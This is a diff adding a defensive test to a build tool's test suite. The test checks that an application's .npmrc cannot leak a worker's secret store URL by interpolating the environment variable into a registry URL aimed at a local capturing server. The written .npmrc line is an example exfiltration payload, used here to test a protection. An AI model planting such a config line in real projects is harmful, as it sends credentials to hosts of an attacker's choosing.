@@ -8,6 +8,8 @@
  */
 import assert from 'node:assert/strict';
 import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { DEFAULT_POLICY } from '../../src/audit/policy.js';
@@ -59,6 +61,40 @@ describe('buildCandidate on an npm application, its registry on 127.0.0.1', () =
     assert.match(readFileSync(outcome.artifacts.patch as string, 'utf8'), /^\+\s+"version": "1\.2\.6"/m);
     assert.match(outcome.artifacts.srpm ?? '', /campaign-npm-app-1\.0\.0-1\.src\.rpm$/);
     rmSync(workDir, { recursive: true, force: true });
+  });
+
+  test("the application's .npmrc cannot send the worker's store URL to a host of its choosing (${STOWAGE_FLEET_STORE} in a registry URL)", { timeout: 120_000 }, async () => {
+    const seen: string[] = [];
+    const server = createServer((req, res) => {
+      seen.push(`${req.url ?? ''} ${JSON.stringify(req.headers)}`);
+      res.writeHead(404).end();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const workDir = tempDir('candidate-npm-env');
+    const { source } = candidateLayout(workDir);
+    cpSync(app, source, { recursive: true });
+    writeFileSync(join(source, '.npmrc'), `registry=http://127.0.0.1:${(server.address() as AddressInfo).port}/\${STOWAGE_FLEET_STORE}/\n`);
+    const store = 'postgres://fleet:s3cret-password@db.internal/fleet';
+    const saved = process.env.STOWAGE_FLEET_STORE;
+    process.env.STOWAGE_FLEET_STORE = store;
+    try {
+      const outcome = await buildCandidate({
+        workDir,
+        advisory: { id: 'GHSA-0000-0000-0101', aliases: [] },
+        audit: { policy: DEFAULT_POLICY, databases: [db], fetch: 'never', cacheRoot: join(scratch, 'cache') },
+        sandbox: 'bwrap',
+        publish: true,
+        env: { ...env, STOWAGE_FLEET_STORE: store },
+      });
+      assert.equal(outcome.state, 'failed');
+      assert.match(outcome.reason ?? '', /\$\{STOWAGE_FLEET_STORE\} is not set in the environment/);
+      assert.deepEqual(seen.filter((line) => line.includes('s3cret')), []);
+    } finally {
+      if (saved === undefined) delete process.env.STOWAGE_FLEET_STORE;
+      else process.env.STOWAGE_FLEET_STORE = saved;
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+      rmSync(workDir, { recursive: true, force: true });
+    }
   });
 
   test("the lockfile update never runs a git of the application's .npmrc", { timeout: 120_000 }, async () => {
